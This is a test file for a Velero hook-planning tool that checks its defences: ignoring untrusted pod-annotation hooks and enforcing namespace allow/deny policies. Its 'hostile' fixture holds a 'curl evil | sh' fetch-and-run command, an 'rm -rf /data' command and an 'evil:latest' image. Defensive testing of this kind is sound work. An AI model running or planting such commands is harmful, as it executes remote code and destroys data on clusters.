import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { stringify } from 'yaml';
import { main } from '../cli/main.ts';
import { createRunCommand, type RunWiring } from '../cli/run.ts';
import { captureIo } from '../testing/cli-io.ts';
import { plannedHook } from '../testing/run-fakes.ts';
import type { PlannedHook } from '../model/plan.ts';
import type { PodManifest } from '../model/pod.ts';
import { createSystemClock } from '../run/clock.ts';
import { parseBackupObject, parseRestoreObject, type BackupHooks, type RestoreHooks } from '../velero/spec.ts';
import { planBackupDetailed } from './plan-backup.ts';
import { planRestoreDetailed } from './plan-restore.ts';
import { namespacePolicy, withoutHookAnnotations } from './policy.ts';

const gen = { generateName: () => 'velero-restore-init-00000000' };

function pod(name: string, namespace: string, annotations: Record<string, string> = {}): PodManifest {
  return { metadata: { name, namespace, annotations }, spec: { containers: [{ name: 'app' }] } };
}

const backup = (): BackupHooks => {
  const b = parseBackupObject({
    apiVersion: 'velero.io/v1',
    kind: 'Backup',
    spec: { hooks: { resources: [{ name: 'trusted', pre: [{ exec: { command: ['/bin/freeze'] } }] }] } },
  }).backup;
  assert.ok(b);
  return b;
};
const restore = (): RestoreHooks => {
  const r = parseRestoreObject({
    apiVersion: 'velero.io/v1',
    kind: 'Restore',
    spec: {
      backupName: 'b',
      hooks: {
        resources: [
          {
            name: 'trusted',
            postHooks: [
              { init: { initContainers: [{ name: 'prep', image: 'busybox', command: ['/bin/prep'] }] } },
              { exec: { command: ['/bin/warm'] } },
            ],
          },
        ],
      },
    },
  }).restore;
  assert.ok(r);
  return r;
};

const hostile = {
  'pre.hook.backup.velero.io/command': '["/bin/sh","-c","curl evil | sh"]',
  'hook.backup.velero.io/command': '/bin/legacy',
  'post.hook.restore.velero.io/command': '["/bin/sh","-c","rm -rf /data"]',
  'init.hook.restore.velero.io/container-image': 'evil:latest',
  'init.hook.restore.velero.io/command': '["/bin/evil"]',
  'unrelated.example.com/keep': 'yes',
};

const summary = (hooks: readonly { pod: string; source: string; name: string; command: readonly string[] }[]): string[] =>
  hooks.map((h) => `${h.pod}:${h.source}:${h.name}:${h.command.join(' ')}`);

void describe('--no-annotation-hooks', () => {
  void it('[S-12] backup: the annotated pod gets the spec hooks instead of its annotation hook; notes say so', () => {
    const pods = [pod('annotated', 'app', hostile), pod('plain', 'app')];
    const trusting = planBackupDetailed(pods, backup(), 'pre');
    assert.deepEqual(summary(trusting.plan.hooks), ['annotated:annotation:<from-annotation>:/bin/sh -c curl evil | sh', 'plain:spec:trusted:/bin/freeze']);
    const strict = planBackupDetailed(pods, backup(), 'pre', { annotationHooks: false });
    assert.deepEqual(summary(strict.plan.hooks), ['annotated:spec:trusted:/bin/freeze', 'plain:spec:trusted:/bin/freeze']);
    assert.deepEqual(strict.notes.map((n) => `${n.pod}:${n.kind}`), ['annotated:annotation-ignored']);
  });

  void it('backup: without spec hooks the annotated pod is skipped with the reason', () => {
    const strict = planBackupDetailed([pod('annotated', 'app', hostile)], undefined, 'pre', { annotationHooks: false });
    assert.deepEqual(strict.plan.hooks, []);
    assert.match(strict.plan.skipped[0]?.reason ?? '', /pre hook annotations are ignored \(--no-annotation-hooks\)/);
  });

  void it('[S-12] restore: annotation init and exec hooks are both ignored; the spec init and exec hooks apply', () => {
    const strict = planRestoreDetailed([pod('annotated', 'app', hostile)], restore(), { ...gen, policy: { annotationHooks: false } });
    assert.deepEqual(summary(strict.plan.hooks), ['annotated:spec:trusted:/bin/prep', 'annotated:spec:trusted:/bin/warm']);
    assert.ok(strict.plan.hooks.every((h) => h.initContainer === undefined || h.initContainer.image === 'busybox'));
    const trusting = planRestoreDetailed([pod('annotated', 'app', hostile)], restore(), gen);
    assert.ok(trusting.plan.hooks.some((h) => h.initContainer?.image === 'evil:latest'));
  });

  void it('keeps other annotations and does not touch the input', () => {
    const p = pod('a', 'app', hostile);
    const { pod: stripped, removed } = withoutHookAnnotations(p);
    assert.deepEqual(stripped.metadata.annotations, { 'unrelated.example.com/keep': 'yes' });
    assert.equal(removed.length, 5);
    assert.equal(Object.keys(p.metadata.annotations ?? {}).length, 6);
  });
});

void describe('--allow-namespace / --deny-namespace', () => {
  const policy = (allow: string[], deny: string[]): ((ns: string) => string | undefined) => {
    const p = namespacePolicy(allow, deny);
    assert.ok(p.ok);
    return p.denied;
  };

  void it('[S-13] deny wins over allow; with allow patterns a namespace must match one; globs as Velero', () => {
    const denied = policy(['app-*', 'db'], ['app-secret*']);
    assert.equal(denied('app-web'), undefined);
    assert.equal(denied('db'), undefined);
    assert.match(denied('app-secrets') ?? '', /denied by --deny-namespace "app-secret\*"/);
    assert.match(denied('kube-system') ?? '', /not allowed by --allow-namespace \(app-\*, db\)/);
    assert.equal(policy([], [])('anything'), undefined);
    assert.match(policy([], ['*'])('x') ?? '', /denied/);
    assert.equal(policy(['{a,b}?'], [])('a1'), undefined);
  });

  void it('[S-13] an invalid glob is an error naming the flag', () => {
    const p = namespacePolicy(['ok'], ['[']);
    if (p.ok) assert.fail('"[" must not compile');
    assert.match(p.error, /^--deny-namespace "\["/);
  });

  void it('[S-14] pods with hooks in a denied namespace are planned out with the reason, for backup and restore', () => {
    const pods = [pod('a', 'app'), pod('k', 'kube-system'), pod('s', 'secrets')];
    const namespaceDenied = policy(['app', 'kube-*'], ['kube-*']);
    const b = planBackupDetailed(pods, backup(), 'pre', { namespaceDenied });
    assert.deepEqual(b.plan.hooks.map((h) => h.namespace), ['app']);
    assert.deepEqual(b.plan.skipped.map((s) => `${s.namespace}: ${s.reason}`), [
      'kube-system: namespace "kube-system" is denied by --deny-namespace "kube-*": its 1 pre hook will not run',
      'secrets: namespace "secrets" is not allowed by --allow-namespace (app, kube-*): its 1 pre hook will not run',
    ]);
    assert.deepEqual(b.notes.filter((n) => n.kind === 'namespace-denied').map((n) => n.pod), ['k', 's']);
    const r = planRestoreDetailed(pods, restore(), { ...gen, policy: { namespaceDenied } });
    assert.deepEqual([...new Set(r.plan.hooks.map((h) => h.namespace))], ['app']);
    assert.match(r.plan.skipped[0]?.reason ?? '', /its 2 restore hooks will not run/);
  });
});

void describe('kubehooks plan with the trust flags', () => {
  void it('--no-annotation-hooks and --deny-namespace change the JSON plan; a bad glob exits 2', async (t) => {
    const dir = await mkdtemp(join(tmpdir(), 'kubehooks-policy-'));
    t.after(() => rm(dir, { recursive: true, force: true }));
    const backupFile = join(dir, 'backup.yaml');
    const podsFile = join(dir, 'pods.yaml');
    await writeFile(
      backupFile,
      stringify({ apiVersion: 'velero.io/v1', kind: 'Backup', metadata: { name: 'b' }, spec: { hooks: { resources: [{ name: 'trusted', pre: [{ exec: { command: ['/bin/freeze'] } }] }] } } }),
    );
    await writeFile(
      podsFile,
      [pod('annotated', 'app', hostile), pod('other', 'kube-system')].map((p) => stringify({ apiVersion: 'v1', kind: 'Pod', ...p })).join('---\n'),
    );
    const io = captureIo();
    const code = await main(['plan', '--backup', backupFile, '--no-annotation-hooks', '--deny-namespace', 'kube-*', '-o', 'json', podsFile], { io: io.io });
    assert.equal(code, 0, io.stderr());
    const plan = JSON.parse(io.stdout()) as { hooks: { pod: string; source: string }[]; skipped: { pod: string; reason: string }[] };
    assert.deepEqual(plan.hooks.map((h) => `${h.pod}:${h.source}`), ['annotated:spec']);
    assert.deepEqual(plan.skipped.map((s) => s.pod), ['other']);
    assert.match(io.stderr(), /note: app\/annotated: the pod's pre hook annotations are ignored/);
    assert.match(io.stderr(), /note: kube-system\/other: namespace "kube-system" is denied/);

    const bad = captureIo();
    assert.equal(await main(['plan', '--backup', backupFile, '--allow-namespace', '{a', podsFile], { io: bad.io }), 2);
    assert.match(bad.stderr(), /--allow-namespace "\{a"/);
  });
});

void describe('kubehooks run with a namespace policy', () => {
  void it('[S-14] the executor refuses a denied namespace even if a plan contained it (defence in depth); nothing reaches the cluster', async () => {
    const execs: string[] = [];
    const hook = (namespace: string): PlannedHook => plannedHook({
      namespace, pod: 'p', container: 'app', name: 'h', phase: 'pre', command: ['/bin/true'], execTimeoutMs: 1000,
    });
    const pods = ['app', 'kube-system'].map((ns) => ({
      ...pod('p', ns),
      status: { phase: 'Running', containerStatuses: [{ name: 'app', ready: true, state: { running: {} } }] },
    }));
    const wiring: RunWiring = {
      createPorts: () => ({
        executor: {
          exec: (r) => {
            execs.push(r.namespace);
            return Promise.resolve({ kind: 'exited', exitCode: 0, message: '', stdout: '', stderr: '', truncated: false, startedAt: new Date(), durationMs: 1 });
          },
        },
        watcher: { run: () => Promise.resolve() },
        lister: { list: () => Promise.resolve(pods) },
        events: { record: () => Promise.resolve({ ok: true }) },
        close: () => undefined,
      }),
      // A planner that ignores the policy: the guard must still hold.
      prepare: () => Promise.resolve({ namespaces: undefined, plan: () => ({ hooks: [hook('app'), hook('kube-system')], skipped: [] }) }),
      clock: createSystemClock(),
      onSignals: () => () => undefined,
    };
    const io = captureIo();
    const code = await main(['run', 'pre-backup', '--backup', 'b.yaml', '--deny-namespace', 'kube-*', '-o', 'json'], {
      io: io.io,
      commands: [createRunCommand(() => wiring)],
    });
    assert.equal(code, 1, io.stderr());
    assert.deepEqual(execs, ['app']);
    const report = JSON.parse(io.stdout()) as { results: { namespace: string; status: string; reasonCode?: string; reason: string | null }[] };
    assert.deepEqual(report.results.map((r) => `${r.namespace}:${r.status}:${r.reasonCode ?? ''}`), ['app:succeeded:', 'kube-system:failed:forbidden']);
    assert.match(report.results[1]?.reason ?? '', /refused by kubehooks: namespace "kube-system" is denied by --deny-namespace "kube-\*"/);
  });
});
